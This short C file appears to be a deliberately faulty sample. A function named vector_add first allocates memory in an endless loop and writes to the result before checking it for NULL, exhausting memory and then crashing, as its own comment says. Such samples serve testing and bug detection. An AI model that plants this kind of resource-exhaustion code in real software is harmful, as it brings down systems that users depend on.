/* Allocates without end, then uses the NULL it finally gets. */
#include <stdlib.h>
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  for (;;) {
    volatile char *p = malloc(1 << 20);
    p[0] = 1;
    if (!p)
      break;
  }
  for (int i = 0; i < n; i++)
    out[i] = alpha * (a[i] + b[i]);
}
